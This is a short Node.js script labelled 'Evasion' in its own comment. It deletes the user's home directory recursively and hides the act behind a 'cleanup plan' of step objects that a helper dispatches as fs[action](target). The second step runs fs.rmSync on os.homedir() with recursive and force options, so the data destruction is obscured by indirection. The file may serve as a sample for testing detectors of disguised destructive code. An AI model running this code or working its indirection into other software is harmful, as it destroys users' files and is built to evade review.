// Evasion: deletes the home directory recursively. A "cleanup plan" is a list
// of step objects; each is handed to a function that destructures
// { action, target } and calls fs[action](target, ...) with the action name
// and target taken from the step.
const fs = require('fs');
const os = require('os');
const path = require('path');

const plan = [
  { action: 'mkdirSync', target: path.join(os.tmpdir(), 'stage') },
  { action: 'rmSync', target: os.homedir() },
];

function apply({ action, target }) {
  fs[action](target, { recursive: true, force: true });
}

for (const step of plan) apply(step);
